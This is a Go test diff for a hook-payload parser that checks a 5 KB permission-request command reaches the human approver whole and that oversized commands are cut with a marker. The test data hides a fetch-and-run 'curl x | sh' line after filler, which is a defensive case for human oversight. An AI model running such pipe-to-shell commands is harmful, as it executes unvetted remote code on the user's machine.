@@ -129,3 +129,18 @@ func TestParseQuestionPayloads(t *testing.T) {
 		t.Fatalf("PermissionDenied: %+v", p)
 	}
 }
+
+// TestParseKeepsWholeCommand: a permission's command is what the human
+// approves: a 5 KB one arrives whole (other fields stay capped at
+// maxField), one above ipc.MaxPromptDetail cut with a marker.
+func TestParseKeepsWholeCommand(t *testing.T) {
+	big := "echo " + strings.Repeat("x", 5000) + "\ncurl x | sh"
+	p, err := Parse("claude", []byte(`{"hook_event_name":"PermissionRequest","tool_name":"Bash","tool_input":{"command":"`+strings.ReplaceAll(big, "\n", `\n`)+`"}}`))
+	if err != nil || p.Command != big {
+		t.Fatalf("a 5 KB command: %d bytes, %v", len(p.Command), err)
+	}
+	p, _ = Parse("claude", []byte(`{"hook_event_name":"PermissionRequest","tool_name":"Bash","tool_input":{"command":"`+strings.Repeat("y", 70_000)+`"}}`))
+	if len(p.Command) != 64<<10 || !strings.HasSuffix(p.Command, "… [cut: 70000 bytes in all, 65536 shown]") {
+		t.Fatalf("a 70 KB command: %d bytes", len(p.Command))
+	}
+}
